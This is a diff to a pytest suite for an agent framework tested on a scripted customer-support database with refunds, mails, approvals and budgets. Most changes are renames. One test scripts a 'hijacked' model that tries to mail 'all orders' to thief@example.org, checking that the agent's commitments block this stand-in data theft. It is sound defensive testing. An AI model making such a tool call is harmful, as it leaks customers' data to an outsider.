@@ -11,7 +11,7 @@ from typing import Any, TypedDict
 import pytest
 from helpers.servers.scripted_endpoint import scripted_endpoint
 from helpers.worlds import support_database
-from helpers.worlds.support_database import CONDITIONS, GOAL, SCRIPT, Desk, mind
+from helpers.worlds.support_database import CONDITIONS, GOAL, SCRIPT, SupportDatabase, scripted_model
 from langchain_core.language_models import BaseChatModel
 from langchain_core.messages import AIMessage
 from langchain_openai import ChatOpenAI
@@ -34,12 +34,12 @@ REPEATABLE: Any = {"look_up": "repeatable"}
 
 
 @pytest.fixture
-def desk(tmp_path: Path) -> Desk:
-    return Desk(tmp_path / "desk.sqlite")
+def desk(tmp_path: Path) -> SupportDatabase:
+    return SupportDatabase(tmp_path / "desk.sqlite")
 
 
-def build(method: Any, desk: Desk, **options: Any) -> AgentGraph:
-    settings = {"model": mind(), "effects": REPEATABLE, "checkpointer": InMemorySaver(), **options}
+def build(method: Any, desk: SupportDatabase, **options: Any) -> AgentGraph:
+    settings = {"model": scripted_model(), "effects": REPEATABLE, "checkpointer": InMemorySaver(), **options}
     return agent(method, tools=desk.tools, **settings)
 
 
@@ -48,7 +48,7 @@ def thread(name: str = "1") -> Any:
 
 
 @pytest.mark.parametrize("method", METHODS)
-def test_every_method_does_the_work_once_and_answers_with_a_message(method: Any, desk: Desk) -> None:
+def test_every_method_does_the_work_once_and_answers_with_a_message(method: Any, desk: SupportDatabase) -> None:
     result = build(method, desk).invoke({"messages": [("user", GOAL)]}, thread())
     assert desk.rows("refunds") == [(17, 49.9)]
     assert len(desk.rows("mails")) == 1
@@ -57,7 +57,7 @@ def test_every_method_does_the_work_once_and_answers_with_a_message(method: Any,
     assert result["ending"] in ("goal", "finished")
 
 
-def test_sdp_returns_what_it_certified(desk: Desk) -> None:
+def test_sdp_returns_what_it_certified(desk: SupportDatabase) -> None:
     result = build("sdp", desk).invoke({"goal": GOAL}, thread())
     certified = [target.text for certificate in result["certificates"] for target in certificate.targets]
     assert certified[: len(CONDITIONS)] == CONDITIONS
@@ -65,7 +65,7 @@ def test_sdp_returns_what_it_certified(desk: Desk) -> None:
 
 
 def test_an_answer_is_handed_in_for_a_condition_that_words_the_goal_otherwise(
-    desk: Desk, monkeypatch: pytest.MonkeyPatch
+    desk: SupportDatabase, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(support_database, "CONDITIONS", [*CONDITIONS, "All is done, and the answer was handed in."])
     monkeypatch.setattr(support_database, "SHOWN_BY", [*support_database.SHOWN_BY, "handed in"])
@@ -73,7 +73,7 @@ def test_an_answer_is_handed_in_for_a_condition_that_words_the_goal_otherwise(
     assert (result["ending"], desk.rows("refunds")) == ("goal", [(17, 49.9)])
 
 
-def test_who_judges_a_target_is_shown_why_it_is_given_up(desk: Desk) -> None:
+def test_who_judges_a_target_is_shown_why_it_is_given_up(desk: SupportDatabase) -> None:
     judged = []
 
     def answers(prompt: str, schema: Any) -> Any:
@@ -90,14 +90,14 @@ def test_who_judges_a_target_is_shown_why_it_is_given_up(desk: Desk) -> None:
     assert "order 17 is not there" in judged[0]
 
 
-def test_async_invocation_without_a_checkpointer(desk: Desk) -> None:
+def test_async_invocation_without_a_checkpointer(desk: SupportDatabase) -> None:
     graph = build("react", desk, checkpointer=None)
     result = asyncio.run(graph.ainvoke({"goal": GOAL}))
     assert result["ending"] == "finished"
     assert len(desk.rows("refunds")) == 1
 
 
-def test_a_second_message_on_the_thread_is_a_task_of_its_own(desk: Desk) -> None:
+def test_a_second_message_on_the_thread_is_a_task_of_its_own(desk: SupportDatabase) -> None:
     graph = build("react", desk)
     graph.invoke({"messages": [("user", GOAL)]}, thread())
     result = graph.invoke({"messages": [("user", GOAL)]}, thread())
@@ -113,7 +113,7 @@ class Refunded(BaseModel):
 
 
 @pytest.mark.slow
-def test_the_answer_has_the_form_that_was_given(desk: Desk) -> None:
+def test_the_answer_has_the_form_that_was_given(desk: SupportDatabase) -> None:
     for method in ("sdp", "react"):
         result = build(method, desk, response_format=Refunded).invoke({"goal": GOAL}, thread(method))
         assert isinstance(result["structured_response"], Refunded)
@@ -126,7 +126,7 @@ class Ticket(TypedDict):
 
 
 @pytest.mark.slow
-def test_further_state_passes_through(desk: Desk) -> None:
+def test_further_state_passes_through(desk: SupportDatabase) -> None:
     graph = build("sdp", desk, state_schema=Ticket)
     given: Any = {"goal": GOAL, "ticket": "T-1"}
     assert graph.invoke(given, thread())["ticket"] == "T-1"
@@ -135,7 +135,7 @@ def test_further_state_passes_through(desk: Desk) -> None:
     assert graph.invoke({"goal": GOAL}, thread())["ticket"] == "T-2"
 
 
-def test_operators_are_exchanged_by_slot(desk: Desk) -> None:
+def test_operators_are_exchanged_by_slot(desk: SupportDatabase) -> None:
     result = build("sdp", desk, validate=always_pass).invoke({"goal": GOAL}, thread())
     assert result["certificates"][0].decided_by == ""
     with pytest.raises(TypeError, match="validate"):
@@ -151,7 +151,7 @@ def test_a_node_can_be_inserted_between_two_others() -> None:
         builder().insert("log", lambda state: {}, between=("act", "replan"))
 
 
-def test_an_agent_is_a_node_of_a_larger_graph(desk: Desk) -> None:
+def test_an_agent_is_a_node_of_a_larger_graph(desk: SupportDatabase) -> None:
     class Outer(TypedDict, total=False):
         messages: Any
         done: bool
@@ -167,12 +167,12 @@ def test_an_agent_is_a_node_of_a_larger_graph(desk: Desk) -> None:
     assert len(desk.rows("refunds")) == 1
 
 
-def test_input_without_a_request_is_refused(desk: Desk) -> None:
+def test_input_without_a_request_is_refused(desk: SupportDatabase) -> None:
     with pytest.raises(Fault, match="messages"):
         build("react", desk).invoke({"messages": []}, thread())
 
 
-def test_unknown_names_are_refused_with_the_known_ones(desk: Desk) -> None:
+def test_unknown_names_are_refused_with_the_known_ones(desk: SupportDatabase) -> None:
     with pytest.raises(ValueError, match="react"):
         build("nothing", desk)
     with pytest.raises(ValueError, match="did you mean sdp"):
@@ -200,7 +200,7 @@ def test_unknown_names_are_refused_with_the_known_ones(desk: Desk) -> None:
 UNANSWERED = {"name": "finish", "args": {"answer": ""}}
 
 
-def test_an_agent_without_an_answer_says_why_it_stopped(desk: Desk) -> None:
+def test_an_agent_without_an_answer_says_why_it_stopped(desk: SupportDatabase) -> None:
     answers = {"tools": [], "conditions": [], "reasoning": "", "thought": "", "calls": [UNANSWERED]}
     model = ScriptedChat(responder=lambda prompt, schema: {name: answers[name] for name in schema["properties"]})
     state = agent("sdp", model=model, tools=desk.tools).invoke({"goal": GOAL})
@@ -232,7 +232,7 @@ def test_a_run_that_a_failing_tool_ended_names_its_error(method: Any) -> None:
 
 
 @pytest.mark.parametrize("model", ["scripted:expert", "scripted:first", "simulated:act=0.2"])
-def test_scripts_of_benchmarks_are_refused(model: str, desk: Desk) -> None:
+def test_scripts_of_benchmarks_are_refused(model: str, desk: SupportDatabase) -> None:
     with pytest.raises(ValueError, match="ScriptedChat"):
         agent("sdp", model=model, tools=desk.tools)
 
@@ -247,7 +247,7 @@ def test_scripts_of_benchmarks_are_refused(model: str, desk: Desk) -> None:
     ],
 )
 def test_a_named_model_that_cannot_be_used_is_refused_when_the_agent_is_built(
-    model: str, installed: bool, fix: str, desk: Desk, monkeypatch: pytest.MonkeyPatch
+    model: str, installed: bool, fix: str, desk: SupportDatabase, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     for name in ("OPENAI_API_KEY", "CERTIGRAPH_BASE_URL"):
         monkeypatch.delenv(name, raising=False)
@@ -259,24 +259,24 @@ def test_a_named_model_that_cannot_be_used_is_refused_when_the_agent_is_built(
 
 
 def test_a_missing_package_of_local_weights_is_named_when_the_agent_is_built(
-    desk: Desk, monkeypatch: pytest.MonkeyPatch
+    desk: SupportDatabase, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr("certigraph.adapters.models.clients.find_spec", lambda name: None)
     with pytest.raises(Fault, match=r"xllamacpp .* pip install 'certigraph\[local\]'"):
         agent("sdp", model="local:qwen-0.5b", tools=desk.tools)
 
 
-def test_missing_weights_are_named_when_the_agent_is_built(desk: Desk, tmp_path: Path) -> None:
+def test_missing_weights_are_named_when_the_agent_is_built(desk: SupportDatabase, tmp_path: Path) -> None:
     with pytest.raises(Fault, match=r"missing\.gguf"):
         agent("sdp", model=f"local:{tmp_path}/missing.gguf", tools=desk.tools)
 
 
-def test_without_a_checkpointer_an_approval_is_refused_before_anything_is_done(desk: Desk) -> None:
+def test_without_a_checkpointer_an_approval_is_refused_before_anything_is_done(desk: SupportDatabase) -> None:
     prompts = []
 
     def answers(prompt: str, schema: Any) -> Any:
         prompts.append(prompt)
-        return mind().responder(prompt, schema)
+        return scripted_model().responder(prompt, schema)
 
     graph = agent("sdp", model=ScriptedChat(responder=answers), tools=desk.tools, interrupt_on={"refund": True})
     with pytest.raises(Fault, match=r"approval of refund .*checkpointer=InMemorySaver"):
@@ -289,14 +289,14 @@ def test_without_a_checkpointer_an_approval_is_refused_before_anything_is_done(d
     assert prompts == []
 
 
-def test_without_a_checkpointer_a_tool_that_needs_no_approval_is_called(desk: Desk) -> None:
-    graph = agent("react", model=mind(), tools=desk.tools, interrupt_on={"refund": False})
+def test_without_a_checkpointer_a_tool_that_needs_no_approval_is_called(desk: SupportDatabase) -> None:
+    graph = agent("react", model=scripted_model(), tools=desk.tools, interrupt_on={"refund": False})
     assert graph.invoke({"goal": GOAL})["ending"] == "finished"
 
 
-def test_the_checkpointer_of_a_graph_around_the_agent_serves_its_approvals(desk: Desk) -> None:
+def test_the_checkpointer_of_a_graph_around_the_agent_serves_its_approvals(desk: SupportDatabase) -> None:
     outer: Any = StateGraph(AgentInput)
-    outer.add_node("desk", agent("react", model=mind(), tools=desk.tools, interrupt_on={"refund": True}))
+    outer.add_node("desk", agent("react", model=scripted_model(), tools=desk.tools, interrupt_on={"refund": True}))
     outer.add_edge(START, "desk")
     graph = outer.compile(checkpointer=InMemorySaver())
     waiting = graph.invoke({"goal": GOAL}, thread())
@@ -305,7 +305,7 @@ def test_the_checkpointer_of_a_graph_around_the_agent_serves_its_approvals(desk:
     assert len(desk.rows("refunds")) == 1
 
 
-def test_a_spent_budget_stops_the_run_and_a_larger_one_continues_it(desk: Desk) -> None:
+def test_a_spent_budget_stops_the_run_and_a_larger_one_continues_it(desk: SupportDatabase) -> None:
     graph = build("react", desk, budget=Budget(calls=2))
     with pytest.raises(LimitReached, match=r"2 of 2 calls .* Budget\(calls=4\)") as reached:
         graph.invoke({"goal": GOAL}, thread())
@@ -317,7 +317,7 @@ def test_a_spent_budget_stops_the_run_and_a_larger_one_continues_it(desk: Desk) 
 
 
 @pytest.mark.parametrize("asynchronous", [False, True])
-def test_a_limit_inside_a_larger_graph_advises_its_caller(asynchronous: bool, desk: Desk) -> None:
+def test_a_limit_inside_a_larger_graph_advises_its_caller(asynchronous: bool, desk: SupportDatabase) -> None:
     outer: Any = StateGraph(AgentInput)
     outer.add_node("desk", build("tdp", desk, solve="sdp", checkpointer=None, budget=Budget(calls=2)))
     outer.add_edge(START, "desk")
@@ -335,7 +335,7 @@ def test_a_limit_inside_a_larger_graph_advises_its_caller(asynchronous: bool, de
     ],
 )
 def test_a_model_that_calls_a_tool_where_only_an_answer_is_taken_is_named_with_the_reason(
-    conditions: list[str], reason: str, desk: Desk
+    conditions: list[str], reason: str, desk: SupportDatabase
 ) -> None:
     def answers(prompt: str, schema: Any) -> Any:
         again = {"thought": "", "calls": [{"name": "look_up", "args": {"order": 17}}], "tools": ["look_up"]}
@@ -349,7 +349,7 @@ def test_a_model_that_calls_a_tool_where_only_an_answer_is_taken_is_named_with_t
 
 
 @pytest.mark.parametrize("asynchronous", [False, True])
-def test_a_script_without_further_answers_is_named(asynchronous: bool, desk: Desk) -> None:
+def test_a_script_without_further_answers_is_named(asynchronous: bool, desk: SupportDatabase) -> None:
     def answers(prompt: str, schema: Any) -> Any:
         return next(iter(()))
 
@@ -360,13 +360,15 @@ def test_a_script_without_further_answers_is_named(asynchronous: bool, desk: Des
 
 @pytest.mark.parametrize("given", ["Cancel order 7.", {}])
 @pytest.mark.parametrize("asynchronous", [False, True])
-def test_an_input_without_a_request_is_answered_with_its_form(given: Any, asynchronous: bool, desk: Desk) -> None:
+def test_an_input_without_a_request_is_answered_with_its_form(
+    given: Any, asynchronous: bool, desk: SupportDatabase
+) -> None:
     graph = build("sdp", desk)
     with pytest.raises(Fault, match=r"the input needs \{\"messages\""):
         asyncio.run(graph.ainvoke(given, thread())) if asynchronous else graph.invoke(given, thread())
 
 
-def test_several_episodes_need_a_reset(desk: Desk) -> None:
+def test_several_episodes_need_a_reset(desk: SupportDatabase) -> None:
     with pytest.raises(Fault, match="trials"):
         build("step", desk, limits=Limits(trials=3)).invoke({"goal": GOAL}, thread())
 
@@ -375,20 +377,20 @@ def test_several_episodes_need_a_reset(desk: Desk) -> None:
 
 
 @pytest.mark.slow
-def test_calls_beyond_the_commitment_are_refused_and_the_run_goes_on(desk: Desk) -> None:
+def test_calls_beyond_the_commitment_are_refused_and_the_run_goes_on(desk: SupportDatabase) -> None:
     hijacked = [SCRIPT[0], ("send_mail", {"to": "thief@example.org", "text": "all orders"})]
 
-    class Hijacked(type(mind(hijacked).responder)):  # type: ignore[misc]
+    class Hijacked(type(scripted_model(hijacked).responder)):  # type: ignore[misc]
         def __call__(self, prompt: str, schema: Any) -> Any:
             answer = super().__call__(prompt, schema)
             return {**answer, "tools": ["look_up"]} if "tools" in schema.get("properties", {}) else answer
 
     for method in ("react", "sdp"):
-        model = mind().model_copy(update={"responder": Hijacked(hijacked)})
+        model = scripted_model().model_copy(update={"responder": Hijacked(hijacked)})
         graph = build(method, desk, model=model, limits=Limits(steps=6))
         graph.invoke({"goal": GOAL}, thread(method))
         assert desk.rows("mails") == []
-    model = mind().model_copy(update={"responder": Hijacked(hijacked)})
+    model = scripted_model().model_copy(update={"responder": Hijacked(hijacked)})
     build("react", desk, model=model, commitments=None).invoke({"goal": GOAL}, thread("free"))
     assert len(desk.rows("mails")) == 1
 
@@ -397,8 +399,8 @@ def test_calls_beyond_the_commitment_are_refused_and_the_run_goes_on(desk: Desk)
 
 
 @pytest.mark.parametrize("method", ["react", "sdp"])
-def test_calls_beyond_the_most_are_not_made_and_the_model_sees_how_many(method: Any, desk: Desk) -> None:
-    orders, prompts, usual = range(100, 102 + MAX_CALLS), list[str](), mind()
+def test_calls_beyond_the_most_are_not_made_and_the_model_sees_how_many(method: Any, desk: SupportDatabase) -> None:
+    orders, prompts, usual = range(100, 102 + MAX_CALLS), list[str](), scripted_model()
 
     def answers(prompt: str, schema: Any) -> Any:
         if "calls" not in schema.get("properties", {}):
@@ -442,7 +444,9 @@ def keeping_model() -> Iterator[BaseChatModel]:
 
 @pytest.mark.slow
 @pytest.mark.parametrize("method", ["tdp", "sdp"])
-def test_a_model_object_serves_one_invocation_after_the_other(method: Any, desk: Desk, keeping_model: BaseChatModel):
+def test_a_model_object_serves_one_invocation_after_the_other(
+    method: Any, desk: SupportDatabase, keeping_model: BaseChatModel
+):
     graph, ending = build(method, desk, model=keeping_model), "goal" if method == "sdp" else "finished"
     for number in range(3):
         assert graph.invoke({"goal": GOAL}, thread(str(number)))["ending"] == ending
@@ -451,7 +455,9 @@ def test_a_model_object_serves_one_invocation_after_the_other(method: Any, desk:
 
 
 @pytest.mark.slow
-def test_a_model_object_serves_one_run_after_the_other(desk: Desk, keeping_model: BaseChatModel, tmp_path: Path):
+def test_a_model_object_serves_one_run_after_the_other(
+    desk: SupportDatabase, keeping_model: BaseChatModel, tmp_path: Path
+):
     world = Tools(desk.tools, [GOAL], reset=lambda case: None)
     for number in range(3):
         context = Context(chat=keeping_model)
